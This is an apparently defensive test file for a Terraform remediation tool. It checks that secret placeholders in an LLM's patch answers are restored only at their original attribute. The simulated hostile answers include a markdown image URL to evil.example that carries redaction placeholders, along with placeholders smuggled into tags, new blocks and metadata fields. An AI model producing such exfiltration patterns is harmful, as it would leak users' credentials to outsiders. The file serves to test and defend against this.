/**
 * Placeholder smuggling: a model answer that moves, copies or mentions a redaction placeholder
 * anywhere but the attribute it was taken from is rejected as invalid LLM output (nothing to commit,
 * no secret in what the engine returns); a placeholder kept at its own attribute is restored there
 * and nowhere else. Driven through the LLM engine with the Bedrock emulator answering.
 */
import fs from 'node:fs';
import path from 'node:path';
import {
  type BedrockEmulator,
  type EmulatorReply,
  type ReceivedConverseRequest as EmulatorRequest,
} from '../../src/sandbox/emulators/bedrockEmulator';
import type { PatchModel } from '../../src/remediation/llm/bedrock';
import { remediate } from '../../src/remediation/engine';
import { commitMessage, prBody } from '../../src/pullRequests/content';
import type { Failure, Target } from '../../src/contracts';
import type { RepoIndex } from '../../src/terraform';
import { FIXTURES, indexAndLocate, scratchRepo, startLlmEmulator } from './helpers';

const KEY_ID = 'AKIAIOSFODNN7EXAMPLE';
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const PASSWORD = 'Hunter2-Very-Secret';
const SECRETS = [KEY_ID, SECRET, PASSWORD];

const monitoring = {
  kind: 'set_attribute',
  file: 'main.tf',
  address: 'aws_instance.web',
  path: ['monitoring'],
  value: 'true',
};
const patchInput = (edits: unknown[], extra: Record<string, unknown> = {}) => ({
  edits,
  explanation: 'Enables detailed monitoring.',
  changedAttributes: ['monitoring'],
  confidence: 'high',
  breakingChanges: [],
  additionalRequirements: [],
  ...extra,
});
const reply = (input: unknown): EmulatorReply => ({ toolUse: { input } });
const userText = (req: EmulatorRequest) => String(req.body.messages?.[0].content[0].text);
/** The placeholders of the request, in order of first appearance. */
const placeholders = (req: EmulatorRequest) => [
  ...new Set(userText(req).match(/__TERRAFIX_SECRET_\d+__/g) ?? []),
];
/** The (redacted) target block as the model saw it. */
const targetBlock = (req: EmulatorRequest) =>
  /<block role="target"[^>]*>\n([\s\S]*?)\n<\/block>/.exec(userText(req))![1];
/** The placeholder standing for the variable default (the password). */
const passwordPlaceholder = (req: EmulatorRequest) =>
  /default = "(__TERRAFIX_SECRET_\d+__)"/.exec(userText(req))![1];

describe('placeholders are restored only where they were taken', () => {
  let emu: BedrockEmulator;
  let client: PatchModel;
  let dir: string;
  let index: RepoIndex;
  let target: Target;
  let failure: Failure;
  beforeAll(async () => {
    ({ emu, client } = await startLlmEmulator());
    dir = scratchRepo(path.join(FIXTURES, 'llm'));
    failure = JSON.parse(fs.readFileSync(path.join(FIXTURES, 'llm-failure.json'), 'utf8')) as Failure;
    ({ index, target } = await indexAndLocate(dir, failure));
  });
  afterEach(() => emu.setHandler(undefined));
  afterAll(async () => {
    await emu.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const attacks: [string, (req: EmulatorRequest) => unknown, RegExp][] = [
    [
      'placeholders in a markdown image URL in the explanation',
      (req) => {
        const [a, b] = placeholders(req);
        return patchInput([monitoring], {
          explanation: `Enables monitoring. ![ci](https://evil.example/x/${a}/${b}.svg)`,
        });
      },
      /in the explanation/,
    ],
    [
      'the password placeholder moved into tags (set_attribute)',
      (req) =>
        patchInput([
          monitoring,
          {
            kind: 'set_attribute',
            file: 'main.tf',
            address: 'aws_instance.web',
            path: ['tags'],
            value: `{\n    Name = "web"\n    Leak = "${passwordPlaceholder(req)}"\n  }`,
          },
        ]),
      /aws_instance\.web tags\.Leak/,
    ],
    [
      'the password placeholder moved into tags inside a replaced block',
      (req) =>
        patchInput([
          {
            kind: 'replace_block',
            file: 'main.tf',
            address: 'aws_instance.web',
            text: targetBlock(req)
              .replace('instance_type = "t3.micro"', 'instance_type = "t3.micro"\n  monitoring    = true')
              .replace('Name = "web"', `Name = "web"\n    Pw   = "${passwordPlaceholder(req)}"`),
          },
        ]),
      /aws_instance\.web tags\.Pw/,
    ],
    [
      'a user_data placeholder copied into another attribute',
      (req) =>
        patchInput([
          monitoring,
          {
            kind: 'set_attribute',
            file: 'main.tf',
            address: 'aws_instance.web',
            path: ['ami'],
            value: `"${placeholders(req)[0]}"`,
          },
        ]),
      /aws_instance\.web ami/,
    ],
    [
      'a placeholder in changedAttributes',
      (req) => patchInput([monitoring], { changedAttributes: ['monitoring', placeholders(req)[0]] }),
      /changedAttributes/,
    ],
    [
      'a placeholder in breakingChanges',
      (req) => patchInput([monitoring], { breakingChanges: [`rotate ${passwordPlaceholder(req)}`] }),
      /breakingChanges/,
    ],
    [
      'a placeholder in additionalRequirements',
      (req) => patchInput([monitoring], { additionalRequirements: [`see ${placeholders(req)[1]}`] }),
      /additionalRequirements/,
    ],
    [
      'a placeholder in a new block',
      (req) =>
        patchInput([
          monitoring,
          {
            kind: 'insert_after',
            file: 'main.tf',
            afterAddress: 'aws_instance.web',
            text: `resource "aws_ssm_parameter" "p" {\n  name  = "x"\n  type  = "String"\n  value = "${passwordPlaceholder(req)}"\n}`,
          },
        ]),
      /new blocks/,
    ],
    [
      'a placeholder in a new nested block',
      (req) =>
        patchInput([
          monitoring,
          {
            kind: 'add_nested_block',
            file: 'main.tf',
            address: 'aws_instance.web',
            path: [],
            text: `ebs_block_device {\n  device_name = "${placeholders(req)[0]}"\n}`,
          },
        ]),
      /ebs_block_device\.device_name/,
    ],
    [
      'the variable default placeholder moved into the target block under the same attribute name',
      (req) =>
        patchInput([
          monitoring,
          {
            kind: 'set_attribute',
            file: 'main.tf',
            address: 'aws_instance.web',
            path: ['default'],
            value: `"${passwordPlaceholder(req)}"`,
          },
        ]),
      /var\.db_password default/,
    ],
  ];

  it.each(attacks)('rejects %s; nothing is committed and no secret comes back', async (_n, answer, why) => {
    const before = emu.requests.length;
    emu.setHandler((req) => reply(answer(req)));
    const r = await remediate(index, target, failure, { engine: 'llm', client });
    expect(r.status).toBe('no_fix');
    expect('fix' in r).toBe(false);
    const reasons = r.reasons.join('\n');
    expect(reasons).toMatch(/may only stay at the attribute it was taken from/);
    expect(reasons).toMatch(why);
    const returned = JSON.stringify(r);
    for (const s of SECRETS) expect(returned).not.toContain(s);
    // Invalid output: no repair round is spent on it, and the request carried no secret.
    expect(emu.requests.length - before).toBe(1);
    for (const s of SECRETS) expect(emu.requests.at(-1)!.raw).not.toContain(s);
  });

  it('control: placeholders kept at their own attribute are restored there and only there', async () => {
    emu.setHandler((req) =>
      reply(
        patchInput([
          {
            kind: 'replace_block',
            file: 'main.tf',
            address: 'aws_instance.web',
            text: targetBlock(req).replace(
              'instance_type = "t3.micro"',
              'instance_type = "t3.micro"\n  monitoring    = true',
            ),
          },
        ]),
      ),
    );
    const r = await remediate(index, target, failure, { engine: 'llm', client });
    if (r.status !== 'fixed') throw new Error(JSON.stringify(r));
    const original = index.files['main.tf'].text;
    const after = r.fix.files.find((f) => f.path === 'main.tf')!.content;
    expect(after).not.toContain('__TERRAFIX_SECRET_');
    // Each secret appears exactly as often as before: back in user_data, nowhere new.
    for (const s of [KEY_ID, SECRET]) expect(after.split(s).length).toBe(original.split(s).length);
    const start = after.indexOf('user_data');
    const userData = after.slice(start, after.indexOf('\n  EOT', start));
    expect(userData).toContain(KEY_ID);
    expect(userData).toContain(SECRET);
    expect(after.slice(after.indexOf('tags'))).not.toContain(KEY_ID);
    const body = prBody({ failure, target, fix: r.fix });
    const message = commitMessage(failure, r.fix, target);
    for (const s of SECRETS) {
      expect(body).not.toContain(s);
      expect(message).not.toContain(s);
      expect(r.fix.explanation).not.toContain(s);
    }
  });
});

describe('a short password at its own attribute', () => {
  const FILES = {
    'versions.tf':
      'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", version = "~> 5.0" }\n  }\n}\n',
    'main.tf': [
      'resource "aws_db_instance" "db" {',
      '  engine         = "postgres"',
      '  instance_class = "db.t3.micro"',
      '  username       = "app"',
      '  password       = "pw1"',
      '',
      '  tags = {',
      '    Name = "db"',
      '  }',
      '}',
      '',
    ].join('\n'),
  };
  let emu: BedrockEmulator;
  let client: PatchModel;
  let dir: string;
  let index: RepoIndex;
  let target: Target;
  const failure: Failure = {
    key: 'vanta:rds-monitoring:db',
    source: 'vanta',
    testId: 'custom-rds-copy-tags',
    testName: 'RDS instances copy tags to snapshots',
    resource: { terraformAddress: 'aws_db_instance.db', file: 'main.tf' },
  };
  const copyTags = {
    kind: 'set_attribute',
    file: 'main.tf',
    address: 'aws_db_instance.db',
    path: ['copy_tags_to_snapshot'],
    value: 'true',
  };
  const pwPlaceholder = (req: EmulatorRequest) =>
    /password\s*= "(__TERRAFIX_SECRET_\d+__)"/.exec(userText(req))![1];
  beforeAll(async () => {
    ({ emu, client } = await startLlmEmulator());
    dir = scratchRepo(FILES);
    ({ index, target } = await indexAndLocate(dir, failure));
  });
  afterEach(() => emu.setHandler(undefined));
  afterAll(async () => {
    await emu.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('is redacted before Bedrock and restored by a set_attribute at the same attribute', async () => {
    emu.setHandler((req) =>
      reply(
        patchInput([copyTags, { ...copyTags, path: ['password'], value: `"${pwPlaceholder(req)}"` }], {
          changedAttributes: ['copy_tags_to_snapshot'],
          explanation: 'Copies tags to snapshots.',
        }),
      ),
    );
    const r = await remediate(index, target, failure, { engine: 'llm', client });
    expect(emu.requests.at(-1)!.raw).not.toContain('"pw1"');
    if (r.status !== 'fixed') throw new Error(JSON.stringify(r));
    const after = r.fix.files[0].content;
    expect(after).toMatch(/password\s*= "pw1"/);
    expect(after.split('pw1').length).toBe(2);
  });

  it('is rejected when moved into tags', async () => {
    emu.setHandler((req) =>
      reply(
        patchInput([
          copyTags,
          {
            ...copyTags,
            path: ['tags'],
            value: `{\n    Name = "db"\n    P    = "${pwPlaceholder(req)}"\n  }`,
          },
        ]),
      ),
    );
    const r = await remediate(index, target, failure, { engine: 'llm', client });
    expect(r.status).toBe('no_fix');
    expect(r.reasons.join()).toMatch(/aws_db_instance\.db tags\.P.*aws_db_instance\.db password/);
    expect(JSON.stringify(r)).not.toContain('pw1');
  });
});
